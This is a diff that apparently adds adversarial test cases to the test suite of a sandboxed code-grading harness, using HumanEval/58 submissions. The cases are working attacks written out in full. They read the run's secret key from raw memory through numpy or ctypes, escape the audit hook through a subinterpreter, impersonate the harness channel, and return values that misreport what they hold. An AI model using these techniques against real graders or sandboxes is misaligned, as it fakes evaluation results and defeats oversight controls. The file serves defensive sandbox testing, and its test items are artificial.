@@ -35368,3 +35368,367 @@ _a45(
     """,
     "returns a Decimal for an int answer: list_sum([1, 2]) is Decimal('3'), and list_sum([1, 2]) + 0.5 raises TypeError where the int answers 3.5",
 )
+
+
+# =============================================================================== round 46 (attack46)
+# The sandbox and the harness from the guest. The jail's numpy reads and writes any address of its own
+# process from Python: an object whose __array_interface__ names a raw address (no ctypes, no audit
+# event), so every value "no Python code can read" (the driver's value stack, the stub's suspended
+# generator, the run's key in its closures' defaults) is a few reads away.
+_a46 = _round(46)
+
+_A46_RAW_KEY = """
+    import os
+    import sys
+    import types
+
+    _buf = []
+
+
+    def _solve(l1, l2):
+        _buf.clear()  # one answer buffer, refilled by every call
+        _buf.extend(sorted(set(l1) & set(l2)))
+        return _buf
+
+
+    def _key():
+        # the run's key, read off raw memory (CPython 3.11 layouts, checked on objects of our own first)
+        import numpy as np
+
+        class _View:
+            pass
+
+        def view(a, n, code="|u1"):
+            v = _View()
+            v.__array_interface__ = {"data": (a, True), "shape": (n,), "typestr": code, "version": 3}
+            return np.asarray(v)
+
+        r, w = os.pipe()
+
+        def mapped(a, n=8):
+            # the kernel answers EFAULT for an address the process has not mapped: no fault here
+            if not 0 < a < 1 << 47:
+                return False
+            try:
+                done = os.writev(w, [view(a, n)])
+            except OSError:
+                return False
+            os.readv(r, [bytearray(done)])
+            return done == n
+
+        def word(a):
+            return int.from_bytes(bytes(view(a, 8)), "little") if mapped(a) else 0
+
+        def i32(a):
+            return int.from_bytes(bytes(view(a, 4)), "little", signed=True) if mapped(a, 4) else -1
+
+        def probe(x, _c=print, _k=b"0123456789abcdef"):
+            return x
+
+        if word(id(probe) + 56) != id(probe.__defaults__):
+            return None
+        gen_t, fn_t, cell_t = id(types.GeneratorType), id(types.FunctionType), id(types.CellType)
+        anchor = bytes(3000)  # a raw allocation: in the heap where the stub's generator (a large object) is
+        lo = hi = id(anchor) & ~4095
+        while lo - 4096 > 0 and hi - lo < 1 << 30 and mapped(lo - 4096, 4096):
+            lo -= 4096
+        while hi - lo < 1 << 30 and mapped(hi, 4096):
+            hi += 4096
+        words = view(lo, (hi - lo) // 8, "<u8")
+        for at in np.nonzero(words == gen_t)[0].tolist():
+            g = lo + 8 * at - 8
+            top = i32(g + 144)
+            for j in range(max(0, min(top, 4096))):  # a suspended generator's locals
+                p = word(g + 152 + 8 * j)
+                t = word(p + 8) if p else 0
+                if t == cell_t:
+                    p = word(p + 16)
+                    t = word(p + 8) if p else 0
+                if t != fn_t:
+                    continue
+                d = word(p + 56)  # func_defaults: (_call, key) of the stub's _ask and _say
+                if not d or word(d + 8) != id(tuple) or word(d + 16) != 2:
+                    continue
+                k = word(d + 32)
+                if k and word(k + 8) == id(bytes) and word(k + 16) == 16:
+                    return bytes(view(k + 32, 16))
+        return None
+
+
+    def _own_channel(key, answer):
+        # every request from here on answered with the key, by this frame: the stub never reads again
+        import ast
+
+        out_fd, in_fd = int(sys.argv[1]), int(sys.argv[2])
+        stop = getattr(os, chr(95) + "exit")  # os._exit, as the stub ends
+
+        def readn(n):
+            buf = b""
+            while len(buf) < n:
+                chunk = bytearray(n - len(buf))
+                got = os.readv(in_fd, [chunk])
+                if not got:
+                    stop(0)
+                buf += bytes(chunk[:got])
+            return buf
+
+        while True:
+            msg = b"R" + key + b"o" + repr(answer).encode()
+            data = len(msg).to_bytes(4, "big") + msg
+            while data:
+                data = data[os.writev(out_fd, [data]) :]
+            reply = readn(int.from_bytes(readn(4), "big"))
+            if reply[:1] != b"C":
+                stop(0)
+            args = ast.literal_eval(reply[1:].decode())
+            answer = _solve(*(args if type(args) is tuple else (args,)))
+
+
+    def common(l1: list, l2: list):
+        answer = _solve(l1, l2)
+        try:
+            key = _key()
+        except Exception:
+            key = None  # no numpy (WASM): the buffer alone
+        if key is not None:
+            _own_channel(key, answer)
+        return answer
+"""
+
+_a46(
+    "a46_numpy_raw_read_key_buffer_58",
+    "HumanEval/58",
+    _A46_RAW_KEY,
+    "every call answers with one buffer refilled by every call (a caller holding an answer reads the next one's); on its first call it reads the run's key off raw memory through numpy (an __array_interface__ naming an address: the driver's interpreter frame from its own frame's f_back, the stub's generator on the driver's value stack, _ask's defaults in the generator's locals) and answers every request itself with it, so the stub never reads a kept answer again; without numpy (WASM) the buffer alone",
+)
+
+# The door spoken to directly, without the key: an answer before the stub's (WASM's _host.call; the
+# jail's message pipe, its fd from sys.argv), the job asked for again. Each is a deviation: every case fails.
+_a46(
+    "a46_door_unkeyed_answer_58",
+    "HumanEval/58",
+    """
+    import os
+    import sys
+
+
+    def _say(msg):
+        try:
+            import _host  # WASM's door
+
+            _host.call(msg)
+        except ImportError:
+            os.writev(int(sys.argv[1]), [len(msg).to_bytes(4, "big") + msg])  # the jail's message pipe
+
+
+    def common(l1: list, l2: list):
+        out = sorted(set(l1) & set(l2))
+        _say(b"J")  # the job (and its key) again
+        _say(b"Ro" + repr(out).encode())  # this call's answer, before the stub's
+        return out[:-1]  # the stub's own answer: one short
+    """,
+    "answers one element short; before returning, asks the door for the job again and sends an unkeyed answer of the right value itself (WASM: _host.call; the jail: a frame on the message pipe)",
+)
+
+# Values the stub copies: int and str subclasses whose repr, ==, hash and __index__ say the right answer
+# while the int they hold is one more; a list subclass whose __class__ and __reduce__ say list.
+_a46(
+    "a46_int_subclass_lies_58",
+    "HumanEval/58",
+    """
+    class _I(int):
+        def __new__(cls, shown):
+            self = super().__new__(cls, shown + 1)
+            self.shown = shown
+            return self
+
+        def __repr__(self):
+            return repr(self.shown)
+
+        __str__ = __repr__
+
+        def __eq__(self, other):
+            return self.shown == other
+
+        def __hash__(self):
+            return hash(self.shown)
+
+        def __index__(self):
+            return self.shown
+
+        def __int__(self):
+            return self.shown
+
+
+    class _L(list):
+        @property
+        def __class__(self):
+            return list
+
+        def __reduce__(self):
+            return (list, ([x.shown for x in self],))
+
+
+    def common(l1: list, l2: list):
+        return _L(_I(x) for x in sorted(set(l1) & set(l2)))
+    """,
+    "answers a list subclass (its __class__ and __reduce__ say list) of int subclasses holding x + 1 whose repr, str, ==, hash, __index__ and __int__ say x: wrong wherever the stub reads the ints it holds, refused wherever it refuses a subclass",
+)
+
+# Hostile values for the host: an answer nested 100,000 lists deep, and one whose text is past a
+# result's size (the digest path, Rz), each wrong.
+_a46(
+    "a46_deep_and_huge_answers_58",
+    "HumanEval/58",
+    """
+    def common(l1: list, l2: list):
+        out = sorted(set(l1) & set(l2))
+        if len(out) % 2:
+            deep = out
+            for _ in range(100_000):
+                deep = [deep]
+            return deep
+        return out + [0] * 3_000_000  # past a result's size: its digest alone travels
+    """,
+    "answers the common elements nested in 100,000 lists where there is an odd number of them, else followed by 3 million zeros (text past a result's size: the digest path); wrong either way, and the judge must turn each into a failed case",
+)
+
+# The jail's 3.11 ships _xxsubinterpreters: a subinterpreter has no audit hook (sys.addaudithook's hooks
+# are per interpreter), and shares the process's memory. Its code imports ctypes unlabelled, reads the
+# run's key off the stub's suspended generator (as a46_numpy_raw_read_key_buffer_58), and hands it over a
+# pipe; the entry point then answers every request itself.
+_a46(
+    "a46_subinterpreter_ctypes_key_buffer_58",
+    "HumanEval/58",
+    '''
+    import os
+    import sys
+
+    _buf = []
+
+    _FINDER = """
+    import ctypes, os, types
+    r, w = os.pipe()
+
+    def mapped(a, n=8):
+        if not 0 < a < 1 << 47:
+            return False
+        try:
+            done = os.writev(w, [(ctypes.c_char * n).from_address(a)])
+        except OSError:
+            return False
+        os.readv(r, [bytearray(done)])
+        return done == n
+
+    def word(a):
+        return int.from_bytes(ctypes.string_at(a, 8), "little") if mapped(a) else 0
+
+    def i32(a):
+        return int.from_bytes(ctypes.string_at(a, 4), "little", signed=True) if mapped(a, 4) else -1
+
+    def find():
+        gen_t, fn_t, cell_t = id(types.GeneratorType), id(types.FunctionType), id(types.CellType)
+        anchor = bytes(3000)
+        lo = hi = id(anchor) & ~4095
+        while lo - 4096 > 0 and hi - lo < 1 << 30 and mapped(lo - 4096, 4096):
+            lo -= 4096
+        while hi - lo < 1 << 30 and mapped(hi, 4096):
+            hi += 4096
+        blob, pat, at = ctypes.string_at(lo, hi - lo), gen_t.to_bytes(8, "little"), 0
+        while (at := blob.find(pat, at + 1)) >= 0:
+            if at % 8:
+                continue
+            g = lo + at - 8
+            for j in range(max(0, min(i32(g + 144), 4096))):
+                p = word(g + 152 + 8 * j)
+                t = word(p + 8) if p else 0
+                if t == cell_t:
+                    p = word(p + 16)
+                    t = word(p + 8) if p else 0
+                if t != fn_t:
+                    continue
+                d = word(p + 56)
+                if not d or word(d + 8) != id(tuple) or word(d + 16) != 2:
+                    continue
+                k = word(d + 32)
+                if k and word(k + 8) == id(bytes) and word(k + 16) == 16:
+                    return ctypes.string_at(k + 32, 16)
+        return b""
+
+    os.writev(OUT, [find().ljust(16, b"-")])
+    """
+
+
+    def _solve(l1, l2):
+        _buf.clear()  # one answer buffer, refilled by every call
+        _buf.extend(sorted(set(l1) & set(l2)))
+        return _buf
+
+
+    def _key():
+        import _xxsubinterpreters as si
+
+        r, w = os.pipe()
+        si.run_string(si.create(), _FINDER.replace("OUT", str(w)))
+        got = bytearray(16)
+        os.readv(r, [got])
+        return bytes(got) if not bytes(got).endswith(b"-") else None
+
+
+    def _own_channel(key, answer):
+        import ast
+
+        out_fd, in_fd = int(sys.argv[1]), int(sys.argv[2])
+        stop = getattr(os, chr(95) + "exit")  # os._exit, as the stub ends
+
+        def readn(n):
+            buf = b""
+            while len(buf) < n:
+                chunk = bytearray(n - len(buf))
+                got = os.readv(in_fd, [chunk])
+                if not got:
+                    stop(0)
+                buf += bytes(chunk[:got])
+            return buf
+
+        while True:
+            msg = b"R" + key + b"o" + repr(answer).encode()
+            data = len(msg).to_bytes(4, "big") + msg
+            while data:
+                data = data[os.writev(out_fd, [data]) :]
+            reply = readn(int.from_bytes(readn(4), "big"))
+            if reply[:1] != b"C":
+                stop(0)
+            args = ast.literal_eval(reply[1:].decode())
+            answer = _solve(*(args if type(args) is tuple else (args,)))
+
+
+    def common(l1: list, l2: list):
+        answer = _solve(l1, l2)
+        try:
+            key = _key()
+        except Exception:
+            key = None  # no subinterpreters (WASM): the buffer alone
+        if key is not None:
+            _own_channel(key, answer)
+        return answer
+    ''',
+    "every call answers with one buffer refilled by every call; on its first call a subinterpreter (no audit hook there) imports ctypes, reads the run's key off the stub's suspended generator in the shared heap and writes it to a pipe, and the entry point answers every request itself with it; without _xxsubinterpreters (WASM) the buffer alone",
+)
+
+# The same door as a script: what the audit hook labels in the main interpreter (a listing of '/', an
+# import of ctypes and a raw read) goes unlabelled in a subinterpreter; the jail's walls still bound it.
+_exec(
+    "a46_subinterpreter_unlabelled",
+    """
+    import _xxsubinterpreters as si
+
+    si.run_string(
+        si.create(),
+        "import os, ctypes; print(sorted(os.listdir('/')), ctypes.string_at(id(b'abc') + 32, 3), flush=True)",
+    )
+    """,
+    lambda out: out.get("violation") in ("filesystem", "ctypes") or "b'abc'" not in out.get("stdout", ""),
+    "a listing of '/' and ctypes' raw read in a subinterpreter are labelled (filesystem, ctypes) or do not happen",
+    backends=("container",),
+)
